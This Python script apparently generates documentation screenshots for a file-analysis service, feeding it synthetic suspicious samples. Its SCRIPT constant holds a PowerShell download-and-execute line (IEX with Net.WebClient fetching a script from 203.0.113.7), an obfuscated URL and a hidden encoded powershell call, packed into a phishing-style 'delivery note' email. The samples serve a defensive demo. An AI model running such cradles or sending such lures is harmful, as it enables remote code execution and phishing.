"""Pictures of the real pages for the documentation: a stack of its own, files, a browser, small PNGs.

usage: python -m scripts.screenshots [FOLDER]
"""

from __future__ import annotations

import argparse
import io
import json
import subprocess
import tempfile
from collections.abc import Mapping, Sequence
from email.message import EmailMessage
from pathlib import Path
from zipfile import ZipFile

from PIL import Image

from orchestrator.cli import exhibits
from tests.acceptance.browser import Window, chromium
from tests.running import ASSAY, Stack, running_stack

ROOT = Path(__file__).parents[1]
FOLDER = ROOT / "docs" / "images"
SCRIPT = """\
$u = 'hxxp'.Replace('xx','tt') + '://203.0.113.7/update.ps1'
IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/update.ps1')
powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAApAA==
"""
#: A picture is drawn with this many colours at most: a page has few.
_COLOURS = 128


def files(folder: Path) -> list[Path]:
    """Files of many types, some of them suspicious and one with children; none is malware."""
    found = [each.path for each in exhibits.gather(folder)]
    script = folder / "update.ps1"
    script.write_text(SCRIPT)
    packed = folder / "delivery-note.zip"
    with ZipFile(packed, "w") as archive:
        archive.write(script, "delivery-note.ps1")
        archive.write(folder / "page.pdf", "page.pdf")
    mail = EmailMessage()
    mail["From"], mail["To"] = "billing@mail.example", "you@company.example"
    mail["Subject"] = "Your delivery note"
    mail.set_content("Please open the attached note: http://203.0.113.7/pay")
    mail.add_attachment(
        packed.read_bytes(), maintype="application", subtype="zip", filename="delivery-note.zip"
    )
    letter = folder / "delivery-note.eml"
    letter.write_bytes(mail.as_bytes())
    return [*found, script, letter]


def submit(stack: Stack, paths: Sequence[Path]) -> dict[str, Mapping[str, str]]:
    """Submit them all and wait; what the command line tells of each, by file name."""
    command = [str(ASSAY), "submit", *map(str, paths), "--wait", "--json", "--meta", "source=mail gateway"]
    env = {**stack.env, "ASSAY_URL": stack.url, "ASSAY_API_KEY": stack.admin_key}
    done = subprocess.run(command, env=env, capture_output=True, text=True, check=False)  # noqa: S603
    rows = json.loads(done.stdout)
    return {Path(row["file"]).name: row for row in rows}


def save(picture: bytes, path: Path) -> None:
    """Keep a picture small: few colours, packed well."""
    image = Image.open(io.BytesIO(picture)).convert("RGB")
    image.quantize(_COLOURS, dither=Image.Dither.NONE).save(path, optimize=True)


def pages(sent: Mapping[str, Mapping[str, str]]) -> dict[str, str]:
    """The name of each picture, and the page it shows."""
    mail, script = sent["delivery-note.eml"], sent["update.ps1"]
    return {
        "dashboard": "/ui/dashboard?span=1h",
        "submit": "/ui/submit",
        "jobs": "/ui/jobs",
        "job": f"/ui/job/{mail['job']}",
        "sample": f"/ui/sample/{script['sha256']}",
        "family": f"/ui/sample/{mail['sha256']}",
        "search": "/ui/search?q=ps1",
        "workers": "/ui/workers",
    }


def shoot(stack: Stack, shown: Mapping[str, str], folder: Path) -> None:
    """Every page as a window of 1280 by 800 shows it, and a job by night on a telephone."""
    folder.mkdir(parents=True, exist_ok=True)
    with chromium() as browser:
        window = Window(browser, stack.url, viewport={"width": 1280, "height": 800})
        window.sign_in(stack.admin_key)
        for name, path in shown.items():
            window.open(path)
            save(window.page.screenshot(), folder / f"{name}.png")
        window.page.emulate_media(color_scheme="dark")
        window.open(shown["dashboard"])
        save(window.page.screenshot(), folder / "dashboard-dark.png")
        window.page.set_viewport_size({"width": 390, "height": 800})
        window.open(shown["job"])
        save(window.page.screenshot(), folder / "job-small.png")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("folder", nargs="?", type=Path, default=FOLDER)
    folder: Path = parser.parse_args().folder
    with tempfile.TemporaryDirectory(prefix="assay-pictures-") as name:
        paths = files(Path(name, "files"))
        with running_stack(Path(name, "data"), {"ASSAY_MAX_CHILDREN": "5"}) as stack:
            shoot(stack, pages(submit(stack, paths)), folder)


if __name__ == "__main__":
    main()
